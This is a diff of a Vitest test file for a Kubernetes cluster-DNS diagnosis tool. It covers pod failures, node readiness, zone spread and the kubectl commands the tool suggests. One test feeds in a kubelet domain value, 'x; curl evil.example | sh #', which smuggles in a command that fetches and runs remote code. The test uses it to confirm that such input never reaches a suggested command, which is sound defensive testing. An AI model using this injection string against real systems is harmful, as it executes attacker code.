@@ -1,68 +1,112 @@
 import { describe, expect, it } from "vitest";
 import { diagnose } from "../../../src/model/doctor/diagnose";
-import type { Finding } from "../../../src/model/doctor/finding";
-import type { Pod, Workload } from "../../../src/model/kubernetes/kinds";
-import type { ClusterDnsProps } from "../../../src/model/props/cluster-dns";
-import { described, found, healthy, pod, props, replaced } from "./healthy";
+import type { FindingId } from "../../../src/model/doctor/findings";
+import type { Node, Pod, Workload } from "../../../src/model/kubernetes/kinds";
+import { commands, described, found, healthy, pod, props, replaced } from "./healthy";
 
 const is = healthy();
 const unready = [{ type: "Ready", status: "False" }];
+const waiting = (reason: string, message: string, more: object = {}) => ({
+  containerStatuses: [{ name: "coredns", restartCount: 3, state: { waiting: { reason, message } }, ...more }],
+});
+const ran = { lastState: { terminated: { exitCode: 1 } } };
 
-/** Findings if `coredns-0` has this status. */
-function withStatus(status: NonNullable<Pod["status"]>) {
-  const pods = replaced(is.pods, "coredns-0", (each) => ({
+/** The snapshot's pods if one has this status. */
+function withStatus(status: NonNullable<Pod["status"]>, name = "coredns-0", from = is) {
+  return replaced(from.pods, name, (each) => ({
     ...each,
     status: { ...each.status, conditions: unready, ...status },
   }));
-  // Its Service still has an endpoint for it, as in the moment before the controllers notice.
-  return found({ pods }).filter(({ where }) => where.includes("coredns-0"));
+}
+
+/** Of one pod; its Service still has an endpoint for it, as in the moment before the controllers notice. */
+function ofPod(status: NonNullable<Pod["status"]>) {
+  const all = diagnose({ ...is, pods: withStatus(status) }, described());
+  const finding = all.find(({ where }) => where.includes("coredns-0"));
+  const steps = finding?.next.map((step) => ("args" in step ? step.args[0] : ""));
+  return { id: finding?.id, where: finding?.where, evidence: finding?.evidence, steps };
 }
 
 describe("a pod that does not serve", () => {
-  const waiting = (reason: string, message: string) => ({
-    containerStatuses: [{ name: "coredns", restartCount: 3, state: { waiting: { reason, message } } }],
-  });
-
-  it.each([
+  it.each<[FindingId, NonNullable<Pod["status"]>, evidence: string[], commands: string[]]>([
     [
-      "cannot be scheduled",
-      { phase: "Pending", conditions: [{ type: "PodScheduled", status: "False", message: "0/2 nodes are available" }] },
-      "0/2 nodes are available",
+      "unschedulable",
+      { phase: "Pending", conditions: [{ type: "PodScheduled", status: "False", message: "0/2 nodes" }] },
+      ["0/2 nodes"],
+      ["describe", ""],
     ],
-    ["cannot pull its image", waiting("ImagePullBackOff", 'Back-off pulling image "x"'), 'Back-off pulling image "x"'],
-    ["ends again and again (CrashLoopBackOff)", waiting("CrashLoopBackOff", "back-off 40s"), "back-off 40s"],
-    ["cannot start: CreateContainerConfigError", waiting("CreateContainerConfigError", "no such key"), "no such key"],
+    // A container that never ran has no log.
+    ["image-not-pulled", waiting("ImagePullBackOff", "Back-off pulling"), ["Back-off pulling"], ["describe"]],
     [
-      "is not ready",
+      "cannot-start",
+      waiting("CreateContainerConfigError", "no key"),
+      ["container coredns: CreateContainerConfigError", "no key"],
+      ["describe"],
+    ],
+    [
+      "crash-loop",
+      waiting("CrashLoopBackOff", "back-off 40s", ran),
+      ["container coredns ended 3 times, last with no reason (exit code 1)", "back-off 40s"],
+      ["describe", "logs"],
+    ],
+    [
+      "not-ready",
       { containerStatuses: [{ name: "coredns", ready: false, state: { running: {} } }] },
-      "container coredns runs, but is not ready",
+      ["container coredns runs, but is not ready"],
+      ["describe", "logs"],
     ],
-  ])("because it %s", (title, status, evidence) => {
-    expect(withStatus(status)).toEqual([
-      {
-        severity: title === "is not ready" ? "warning" : "error",
-        title,
-        where: "pod kube-system/coredns-0 on node-1 of Deployment coredns",
-        evidence: [evidence, "1 of 2 pods are ready"],
-      },
-    ]);
+  ])("%s", (id, status, evidence, steps) => {
+    expect(ofPod(status)).toEqual({
+      id,
+      where: "pod kube-system/coredns-0 on node-1 of Deployment coredns",
+      evidence: [...evidence, "1 of 2 pods are ready"],
+      steps,
+    });
   });
 
-  it("is no error if it is the autoscaler's", () => {
+  it("says the last line of a container that ends again and again", () => {
+    const log = "2026-10-31T23:59:00Z starting\n2026-10-31T23:59:01Z /etc/coredns: no such file\n";
+    const logs = new Map([["coredns-0", new Map([["coredns", log]])]]);
+    const pods = withStatus(waiting("CrashLoopBackOff", "back-off 40s", ran));
+    expect(found({ pods, logs })[0]?.evidence).toContain("its last line: /etc/coredns: no such file");
+  });
+
+  it("says which taint keeps it from which node", () => {
+    const tainted = (node: Node) => ({
+      ...node,
+      spec: { taints: [{ key: "x", value: "y", effect: "NoSchedule" as const }] },
+    });
+    const pods = withStatus({
+      phase: "Pending",
+      conditions: [{ type: "PodScheduled", status: "False", message: "0/2" }],
+    });
+    expect(found({ pods, nodes: is.nodes?.map(tainted) }).find(({ id }) => id === "unschedulable")?.evidence).toContain(
+      "node-1, node-2: taint x=y:NoSchedule is not tolerated",
+    );
+  });
+
+  it("is five pods by number, with some names, and an error if none is ready", () => {
+    const status = { conditions: unready, containerStatuses: [{ name: "coredns", state: { running: {} } }] };
+    const pods = is.pods?.map((each) => (each.metadata.name.startsWith("coredns-") ? { ...each, status } : each));
+    expect(found({ pods })[0]).toEqual({
+      id: "none-ready",
+      where: "2 pods of Deployment coredns",
+      evidence: [
+        "kube-system/coredns-0 on node-1, kube-system/coredns-1 on node-2",
+        "container coredns runs, but is not ready",
+        "0 of 2 pods are ready",
+      ],
+    });
+  });
+
+  it("is a warning if it is the autoscaler's", () => {
     const from = described({ ...props, authoritativeDNS: { autoscaler: { min: 1 } } });
-    const healthyOne = healthy(from);
-    const pods = replaced(healthyOne.pods, "dns-autoscaler-0", (each) => ({
-      ...each,
-      status: { ...each.status, conditions: unready, ...waiting("ErrImagePull", "no such host") },
-    }));
-    expect(diagnose({ ...healthyOne, pods }, from)).toMatchObject([
-      { severity: "warning", title: "cannot pull its image" },
-    ]);
+    const pods = withStatus(waiting("ErrImagePull", "no such host"), "dns-autoscaler-0", healthy(from));
+    expect(found({ pods }, from).map(({ id }) => id)).toEqual(["autoscaler-down"]);
   });
 
   it("is kube-proxy's", () => {
     const matchLabels = { "k8s-app": "kube-proxy" };
-    const template = { spec: { containers: [{ name: "kube-proxy" }] } };
     const own = pod("kube-proxy-a", "kube-system", { nodeName: "node-1" });
     const crashing = {
       ...own,
@@ -73,15 +117,12 @@ describe("a pod that does not serve", () => {
       apiVersion: "apps/v1",
       kind: "DaemonSet",
       metadata: { name: "kube-proxy", namespace: "kube-system" },
-      spec: { selector: { matchLabels }, template },
+      spec: { selector: { matchLabels }, template: { spec: { containers: [{ name: "kube-proxy" }] } } },
       status: { desiredNumberScheduled: 2 },
     };
     const more = { pods: [...(is.pods ?? []), crashing], workloads: [...(is.workloads ?? []), daemonSet] };
     expect(found(more)).toMatchObject([
-      {
-        title: "ends again and again (CrashLoopBackOff)",
-        where: "pod kube-system/kube-proxy-a on node-1 of DaemonSet kube-proxy",
-      },
+      { id: "crash-loop", where: "pod kube-system/kube-proxy-a on node-1 of DaemonSet kube-proxy" },
     ]);
   });
 
@@ -104,14 +145,9 @@ describe("a pod that does not serve", () => {
       },
     }));
     expect(found({ workloads, pods })).toMatchObject([
+      { id: "low-memory-limit", evidence: ["container coredns may use 20Mi, the cluster file renders 690Mi"] },
       {
-        severity: "warning",
-        title: "has a lower memory limit than described",
-        evidence: ["container coredns may use 20Mi, the cluster file renders 690Mi"],
-      },
-      {
-        severity: "warning",
-        title: "was killed because it needed more memory than its limit",
+        id: "out-of-memory-once",
         evidence: [
           "container coredns ended 2 times, last with OOMKilled (exit code 137) at 2026-11-01T00:00:00Z",
           "memory limit: 690Mi of the pod, 20Mi of the template, 690Mi as rendered from the cluster file",
@@ -131,99 +167,104 @@ describe("a pod that does not serve", () => {
       spec: { ...each.spec, initContainers: [limited] },
       status: { ...each.status, initContainerStatuses: [{ name: "node-setup", restartCount: 1, ...status }] },
     }));
-    expect(found({ pods })).toMatchObject([
-      {
-        severity: "warning",
-        evidence: [
-          expect.any(String),
-          expect.stringMatching(/^memory limit: 20Mi of the pod, /),
-          expect.any(String),
-          expect.any(String),
-        ],
-      },
-    ]);
+    expect(found({ pods })).toMatchObject([{ id: "out-of-memory-once" }]);
+    expect(found({ pods })[0]?.evidence[1]).toMatch(/^memory limit: 20Mi of the pod, /);
   });
 
   it("because it was evicted, which a successor mends", () => {
-    expect(withStatus({ phase: "Failed", reason: "Evicted", message: "low on memory" })).toMatchObject([
-      { severity: "info", title: "was evicted" },
-    ]);
+    expect(ofPod({ phase: "Failed", reason: "Evicted", message: "low on memory" })).toMatchObject({ id: "evicted" });
   });
 
-  it("because there is none", () => {
-    const workloads = replaced(is.workloads, "coredns", () => undefined);
-    expect(found({ workloads })).toMatchObject([
-      { severity: "error", title: "is missing", where: "Deployment kube-system/coredns" },
-    ]);
+  it("because there is none, or something refuses it", () => {
     const pods = replaced(is.pods, "coredns-0", () => undefined);
-    const tooFew = { severity: "warning", title: "has too few pods" };
     // Its endpoint is still there.
-    const foreign = { severity: "error", title: "has other endpoints than its ready pods" };
-    expect(found({ pods })).toMatchObject([foreign, { ...tooFew, evidence: ["1 of 2 pods exist, 1 are ready"] }]);
-    // The Deployment knows who does not let it have them.
+    expect(found({ pods }).map(({ id }) => id)).toEqual(["foreign-endpoint", "too-few-pods"]);
     const message = 'admission webhook "policy.example" denied the request';
-    const refusing = replaced(is.workloads, "coredns", (each) => ({
+    const workloads = replaced(is.workloads, "coredns", (each) => ({
       ...each,
       status: { conditions: [{ type: "ReplicaFailure", status: "True", reason: "FailedCreate", message }] },
     }));
-    expect(found({ pods, workloads: refusing })).toMatchObject([
-      foreign,
-      { ...tooFew, evidence: ["1 of 2 pods exist, 1 are ready", `new pods are refused: ${message}`] },
+    expect(found({ pods, workloads })[1]?.evidence).toEqual([
+      "1 of 2 pods exist, 1 are ready",
+      `new pods are refused: ${message}`,
     ]);
   });
 
-  it.each<[what: string, ClusterDnsProps, replicas: number, Partial<Finding>, mends: RegExp]>([
+  it.each([
+    ["scaled-to-zero", props, 0, /^kubectl apply .* -k dist\/prod$/],
+    ["scaled-down", props, 1, /^kubectl apply .* -k dist\/prod$/],
     [
-      "to 0",
-      props,
-      0,
-      { severity: "error", title: "is scaled to 0", evidence: ["spec.replicas is 0, the cluster file says 2"] },
-      /^kubectl apply .* -k dist\/prod$/,
-    ],
-    [
-      "to fewer than described",
-      props,
-      1,
-      { severity: "warning", title: "is scaled to fewer pods than described" },
-      /^kubectl apply .* -k dist\/prod$/,
-    ],
-    [
-      "to fewer than the autoscaler's least",
+      "scaled-down",
       { ...props, authoritativeDNS: { autoscaler: { min: 3 } } },
       2,
-      { severity: "warning", evidence: ["spec.replicas is 2, the cluster file says autoscaler, with at least 3"] },
       /^kubectl scale deployment coredns .*--replicas=3$/,
     ],
-  ])("because somebody scaled it %s", (_, given, replicas, finding, mends) => {
+    ["scaled-to-zero", { ...props, authoritativeDNS: { autoscaler: { min: 3 } } }, 0, /^kubectl scale .*--replicas=3 /],
+    [
+      "scaled-to-zero",
+      { ...props, authoritativeDNS: { kind: "Existing" as const } },
+      0,
+      /^kubectl scale .*--replicas=2 /,
+    ],
+  ])("%s: %j has %i replicas", (id, given, replicas, mends) => {
     const from = described(given);
-    const healthyOne = healthy(from);
-    const workloads = replaced(healthyOne.workloads, "coredns", (each) => ({
-      ...each,
-      spec: { ...each.spec, replicas },
+    const of = given.authoritativeDNS && "kind" in given.authoritativeDNS ? is : healthy(from);
+    const workloads = replaced(of.workloads, "coredns", (each) => ({ ...each, spec: { ...each.spec, replicas } }));
+    const all = diagnose({ ...healthy(from), workloads }, from);
+    expect(commands(all.find((each) => each.id === id)).at(-1)).toMatch(mends);
+  });
+});
+
+describe("nodes", () => {
+  const down = (name: string) =>
+    replaced(is.nodes, name, (node) => ({
+      ...node,
+      status: { conditions: [{ type: "Ready", status: "Unknown", reason: "NodeStatusUnknown", message: "no report" }] },
     }));
-    const [first] = diagnose({ ...healthyOne, workloads }, from);
-    expect(first).toMatchObject({ where: "Deployment kube-system/coredns", ...finding });
-    expect(first?.next.at(-1)).toMatch(mends);
-  });
 
-  it("because a cluster DNS that is not ours is scaled to 0", () => {
-    const from = described({ ...props, authoritativeDNS: { kind: "Existing" } });
-    const workloads = replaced(is.workloads, "coredns", (each) => ({ ...each, spec: { ...each.spec, replicas: 0 } }));
-    expect(diagnose({ ...healthy(from), workloads }, from)[0]).toMatchObject({
-      title: "is scaled to 0",
-      next: ["kubectl scale deployment coredns -n kube-system --replicas=2"],
-    });
-  });
-
-  it("on a node that should have a cache", () => {
-    const pods = replaced(is.pods, "node-local-dns-1", () => undefined);
-    expect(found({ pods })).toContainEqual(
-      expect.objectContaining({
-        severity: "warning",
-        title: "no pod of node-local-dns runs here",
-        where: "node node-2",
-      }),
+  it("that are not ready come first, and nothing is said of their pods", () => {
+    const pods = is.pods?.map((each) =>
+      each.spec.nodeName === "node-2" ? { ...each, status: { ...each.status, conditions: unready } } : each,
     );
+    expect(found({ nodes: down("node-2"), pods }).map(({ id, where }) => [id, where])).toEqual([
+      ["node-not-ready", "node node-2"],
+    ]);
+  });
+
+  it("are an error if the only pods of the cluster DNS are there", () => {
+    const pods = is.pods?.map((each) =>
+      each.metadata.name.startsWith("coredns-")
+        ? { ...each, spec: { ...each.spec, nodeName: "node-2" }, status: { ...each.status, conditions: unready } }
+        : each,
+    );
+    expect(found({ nodes: down("node-2"), pods })[0]).toMatchObject({ id: "dns-node-not-ready", where: "node node-2" });
+  });
+
+  it("that should have a cache and have none", () => {
+    const pods = replaced(is.pods, "node-local-dns-1", () => undefined);
+    expect(found({ pods })).toContainEqual(expect.objectContaining({ id: "no-pod-here", where: "node node-2" }));
+  });
+
+  it.each([
+    ["one node", ["node-1", "node-1"], ["a", "a"], ["dns-on-one-node"]],
+    ["one zone", ["node-1", "node-2"], ["a", "a"], ["dns-in-one-zone"]],
+    ["two zones", ["node-1", "node-2"], ["a", "b"], []],
+  ])("of which %s has all pods of the cluster DNS although others are free", (_, placed, zones, ids) => {
+    const zone = (name: string) => ({ "kubernetes.io/os": "linux", "topology.kubernetes.io/zone": name });
+    const [first, second] = is.nodes ?? [];
+    if (!first || !second) throw new Error("two nodes are expected");
+    const nodes = [first, second, { ...second, metadata: { name: "node-3" } }].map((node, i) => ({
+      ...node,
+      metadata: { ...node.metadata, labels: zone(zones[i] ?? "c") },
+    }));
+    let n = 0;
+    const pods = is.pods?.map((each) =>
+      each.metadata.name.startsWith("coredns-")
+        ? { ...each, spec: { ...each.spec, nodeName: placed[n++] ?? "" } }
+        : each,
+    );
+    const all = found({ nodes, pods }).filter(({ id }) => id.startsWith("dns-"));
+    expect(all.map(({ id }) => id)).toEqual(ids);
   });
 });
 
@@ -236,12 +277,8 @@ describe("pods with a resolv.conf of their own", () => {
       pod("fine", "bar", { dnsPolicy: "None", dnsConfig: { nameservers: ["10.96.0.10"] } }),
     ];
     expect(found({ pods })).toMatchObject([
-      { severity: "info", title: "pods ask other servers than the cluster's", where: "pod bar/own" },
-      {
-        severity: "info",
-        title: "pods on the host's network do not resolve the cluster's names",
-        where: "pod bar/host",
-      },
+      { id: "asks-others", where: "pod bar/own" },
+      { id: "host-network", where: "pod bar/host" },
     ]);
   });
 
@@ -252,18 +289,16 @@ describe("pods with a resolv.conf of their own", () => {
       pod("try", "bar", { containers }),
       pod("other", "bar", { containers: [{ name: "c", image: "mybusybox:1" }] }),
     ];
-    expect(found({ pods })).toMatchObject([
-      { severity: "info", title: "nslookup of busybox ignores the search list", where: "pod bar/try" },
-    ]);
+    expect(found({ pods })).toMatchObject([{ id: "busybox", where: "pod bar/try" }]);
     const from = described({ ...props, clusterDomain: "corp.example" });
-    expect(diagnose({ ...healthy(from), pods }, from).flatMap(({ next }) => next)).toContain(
+    expect(diagnose({ ...healthy(from), pods }, from).flatMap(commands)).toContain(
       "kubectl exec try -n bar -- nslookup kubernetes.default.svc.corp.example.",
     );
     // Without a cluster file, a node says the domain; but not what somebody runs.
     const kubelets = new Map([
       ["node-1", { clusterDNS: ["10.96.0.10"], clusterDomain: "x; curl evil.example | sh #" }],
     ]);
-    expect(diagnose({ ...is, pods, kubelets }).flatMap(({ next }) => next)).toEqual([
+    expect(diagnose({ ...is, pods, kubelets }).flatMap(commands)).toEqual([
       "kubectl exec try -n bar -- nslookup kubernetes.default.svc.cluster.local.",
     ]);
   });
